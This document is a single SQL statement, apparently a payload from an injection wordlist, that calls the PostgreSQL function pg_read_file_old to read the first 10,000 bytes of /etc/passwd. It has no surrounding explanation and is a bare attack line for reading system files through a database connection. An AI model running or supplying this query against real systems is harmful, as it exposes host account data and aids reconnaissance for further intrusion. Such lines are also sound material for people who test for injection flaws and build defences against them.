SELECT pg_read_file_old('/etc/passwd', 0, 10000)
